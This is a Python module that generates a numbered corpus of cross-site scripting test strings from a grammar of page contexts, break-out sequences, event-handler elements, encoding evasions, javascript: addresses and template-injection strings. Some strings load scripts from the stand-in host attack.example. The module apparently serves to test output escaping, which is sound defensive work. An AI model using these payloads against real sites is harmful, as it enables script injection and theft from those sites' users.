"""Strings that become a script where somebody forgot to escape, made from a grammar; each has a number and a place.

place × way out of it × element that runs something × spelling of the call, then spellings that hide the element (letter
case, entities, full-width letters, escapes of other languages), addresses whose scheme is a script, and templates of other
languages. What the OWASP and PortSwigger cheat sheets and html5sec list are words of this grammar.
"""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from itertools import cycle, islice
from urllib.parse import quote

FIRST = 100_000
"""The first number; all have six digits, so that a string can be told by them wherever it is shown."""
COUNT = 3_000
ELSEWHERE = "attack.example"
"""The host that no page may ask."""


@dataclass(frozen=True, kw_only=True)
class Attack:
    """A string, its number, and the page in which it does something where nothing is escaped: `{}` stands for the string."""

    number: int
    text: str
    place: str


# What a page around it looks like, and how one leaves it for free markup.
_PLACES = (
    ("<p>{}</p>", ""),
    ("<title>{}</title>", "</title>"),
    ("<textarea>{}</textarea>", "</textarea>"),
    ("<style>p { content: '{}' }</style>", "</style>"),
    ("<script>let told = '{}'</script>", "</script>"),
    ("<!-- {} -->", "-->"),
    ('<input value="{}">', '">'),
    ("<input value='{}'>", "'>"),
    ("<input value={}>", "x>"),
    ("<noscript>{}</noscript>", "</noscript>"),
    ("<select><option>{}</option></select>", "</option></select>"),
    ('<meta name="description" content="{}">', '"/>'),
)
# Elements that run something by themselves; `@` stands for the call, in an attribute or a script.
_ELEMENTS = (
    "<script>@</script>",
    "<img src=x onerror=@>",
    '<img src="x" onerror="@">',
    "<svg onload=@>",
    "<svg/onload=@>",
    "<svg><script>@</script></svg>",
    "<svg><animate onbegin=@ attributeName=x dur=1s>",
    "<svg><set onbegin=@ attributeName=x to=0 dur=1s>",
    "<svg><style><img src=x onerror=@></style>",
    "<svg><foreignObject><img src=x onerror=@></foreignObject></svg>",
    "<math><mtext><img src=x onerror=@></mtext></math>",
    "<body onload=@>",
    "<body onpageshow=@>",
    "<input autofocus onfocus=@>",
    "<select autofocus onfocus=@></select>",
    "<textarea autofocus onfocus=@></textarea>",
    "<button autofocus onfocus=@>x</button>",
    "<p tabindex=1 autofocus onfocus=@>x</p>",
    "<soi-x tabindex=1 autofocus onfocus=@>x</soi-x>",
    "<details open ontoggle=@><summary>x</summary></details>",
    "<video><source onerror=@></video>",
    "<video src=x onerror=@></video>",
    "<audio src=x onerror=@></audio>",
    "<audio src=x onloadstart=@></audio>",
    "<iframe onload=@></iframe>",
    "<iframe srcdoc='<script>parent.@</script>'></iframe>",
    "<iframe src='javascript:parent.@'></iframe>",
    "<object data=x onerror=@></object>",
    "<embed src='javascript:@'>",
    "<style onload=@></style>",
    "<style>@keyframes s{}</style><b style='animation-name:s' onanimationstart=@>x</b>".replace(
        "@key", "\0key"
    ),
    "<marquee onstart=@>x</marquee>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/a.css onerror=@>",
    f"<script src=//{ELSEWHERE}/a.js onerror=@></script>",
    f"<img src=//{ELSEWHERE}/@>",
    f"<base href=//{ELSEWHERE}/@/>",
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}/@'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,@'>",
    "<a href='javascript:@'>x</a>",
    "<form action='javascript:@'><button>x</button></form>",
    "<button formaction='javascript:@' form=f>x</button>",
    "<svg><a xlink:href='javascript:@'><text>x</text></a></svg>",
    "<map><area href='javascript:@'></map>",
    f"<img srcset='//{ELSEWHERE}/@ 1x'>",
    f"<link rel=prefetch href=//{ELSEWHERE}/@>",
    f"<p style='background:url(//{ELSEWHERE}/@)'>x</p>",
    f"<style>*{{background:url(//{ELSEWHERE}/@)}}</style>",
    "<p onmouseover=@ style='position:fixed;inset:0'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=@>'></noscript>",
    "<table><td><img src=x onerror=@></table>",
    "<template><p></template><img src=x onerror=@>",
    "<img/src='x'/onerror=@>",
    "<img\tsrc=x\nonerror=@>",
    "<img src=x onerror\x0c=@>",
    "<<img src=x onerror=@>",
    "<img src=x:x onerror=@ <",
    "<!--><img src=x onerror=@>",
    "<![CDATA[><img src=x onerror=@>]]>",
    "<?xml ><img src=x onerror=@>",
)
_CALLS: tuple[Callable[[int], str], ...] = (
    lambda n: f"hit({n})",
    lambda n: f"alert({n})",
    lambda n: f"window['hit']({n})",
    lambda n: f"self?.hit?.({n})",
    lambda n: f"[{n}].map(hit)",
    lambda n: f"hit`{n}`",
    lambda n: f"hit(/{n}/.source)",
    lambda n: f"Reflect.apply(hit,0,[{n}])",
)
# Hidden spellings of whole strings: what decodes once too often makes markup of them.
_HIDDEN: tuple[Callable[[str], str], ...] = (
    str.swapcase,
    lambda s: s.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;"),
    lambda s: s.replace("<", "&#60;").replace(">", "&#x3e;"),
    lambda s: s.replace("<", "&LT").replace(">", "&GT"),
    quote,
    lambda s: quote(quote(s)),
    lambda s: s.replace("<", "＜").replace(">", "＞"),  # compatibility forms: NFKC makes markup of them
    lambda s: s.replace("<", "﹤").replace(">", "﹥"),
    lambda s: s.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda s: s.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda s: s.replace("<", "+ADw-").replace(">", "+AD4-"),  # UTF-7
    lambda s: s.replace("<", "<\u200b").replace(">", "\u00ad>"),
    lambda s: f"\u202e{s}\u2066",
    lambda s: f"\ufeff{s}\u0000",
    lambda s: "".join(f"{letter}\u0301" if letter == "<" else letter for letter in s),
)
_ADDRESSES = (
    "javascript:@",
    "JaVaScRiPt:@",
    " javascript:@",
    "\x01javascript:@",
    "java\tscript:@",
    "java\nscript:@",
    "javascript\t:@",
    "javascript://x.gov.vn/%0a@",
    "javascript:/*x.gov.vn*/@",
    "&#106;avascript:@",
    "javascript&colon;@",
    "%6aavascript:@",
    "ｊavascript:@",
    "vbscript:@",
    "data:text/html,<script>@</script>",
    "data:text/html;base64,#",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@'/>",
    "view-source:javascript:@",
    "blob:null/@",
    "filesystem:null/@",
    f"//{ELSEWHERE}/@",
    f"\\\\{ELSEWHERE}\\@",
    "https://x.gov.vn/\"onmouseover='@'",
    "https://x.gov.vn/'><script>@</script>",
    "https://x.gov.vn/\n<script>@</script>",
    "https://x.gov.vn/?a=`@`",
)
_IN_TAGS = (
    ('<input value="{}">', '" autofocus onfocus="@'),
    ('<input value="{}">', '"onfocus="@"autofocus="'),
    ("<input value='{}'>", "' autofocus onfocus='@"),
    ("<input value={}>", "x autofocus onfocus=@"),
    ('<p title="{}">x</p>', '" tabindex=1 autofocus onfocus="@'),
    ('<img alt="{}">', '" src=x onerror="@'),
    ("<script>let told = '{}'</script>", "';@;'"),
    ("<script>let told = '{}'</script>", "'-@-'"),
    ("<script>let told = '{}'</script>", "\\';@//"),
    ("<script>let told = `{}`</script>", "${@}"),
    ('<script>let told = "{}"</script>', '";@;"'),
    ("<button onclick=\"tell('{}')\" autofocus>x</button>", "');@;('"),
)
# What engines of templates, spreadsheets and marks would make something of; none of them may have a say here.
_TEMPLATES = (
    "{{@}}",
    "{{constructor.constructor('@')()}}",
    "{% raw %}<img src=x onerror=@>{% endraw %}",
    "{{ '<img src=x onerror=@>' | safe }}",
    "{{ ''.__class__.__mro__ }}@",
    "${@}",
    "#{@}",
    "<%= @ %>",
    "[x](javascript:@)",
    "![x](x'onerror='@)",
    "[link=javascript:@]x[/link]",
    "$(@)",
    "`@`",
    "%s%n@",
    "\x1b]8;;javascript:@\x1b\\x",
)


@cache
def attacks(count: int = COUNT) -> tuple[Attack, ...]:
    """`count` different strings, in an order that has every kind of them early; always the same."""
    made: dict[str, tuple[str, int]] = {}
    for number, (text, place) in enumerate(_turns(), FIRST):
        if len(made) == count:
            break
        told = _called(text, number)
        made.setdefault(told, (place, number))
    return tuple(Attack(number=number, text=text, place=place) for text, (place, number) in made.items())


def _turns() -> Iterator[tuple[str, str]]:
    """(string with `@` for its call, place), by turns from every kind; the kinds that end begin anew with other calls."""
    kinds = [
        cycle(_leaving()),
        cycle(_leaving()),
        cycle(_hidden()),
        cycle(_addresses()),
        cycle(_IN_TAGS_TURNED),
    ]
    kinds.append(cycle((text, "<p>{}</p>") for text in _TEMPLATES))
    for kind in cycle([kinds[at] for at in (0, 0, 0, 0, 0, 0, 2, 2, 3, 4, 5)]):
        yield from islice(kind, 1)


_IN_TAGS_TURNED = tuple((text, place) for place, text in _IN_TAGS)


def _leaving() -> list[tuple[str, str]]:
    every = [(f"{out}{element}", place) for element in _ELEMENTS for place, out in _PLACES]
    return [every[(at * 7) % len(every)] for at in range(len(every))]


def _hidden() -> list[tuple[str, str]]:
    return [(f"\0{at}\0{element}", "<p>{}</p>") for element in _ELEMENTS for at in range(len(_HIDDEN))]


def _addresses() -> list[tuple[str, str]]:
    return [(text, '<a href="{}">x</a>') for text in _ADDRESSES]


def _called(text: str, number: int) -> str:
    """The string with its call, whose spelling goes with the number."""
    hide = None
    if text.startswith("\0"):
        _, at, text = text.split("\0", 2)
        hide = _HIDDEN[int(at)]
    call = _CALLS[(number // 11) % len(_CALLS)](number)
    coded = b64encode(f"<script>{call}</script>".encode()).decode()
    told = (
        text.replace("@", call).replace("\0key", "@key").replace("#", f"{coded}#{number}", text.endswith("#"))
    )
    return hide(told) if hide is not None else told
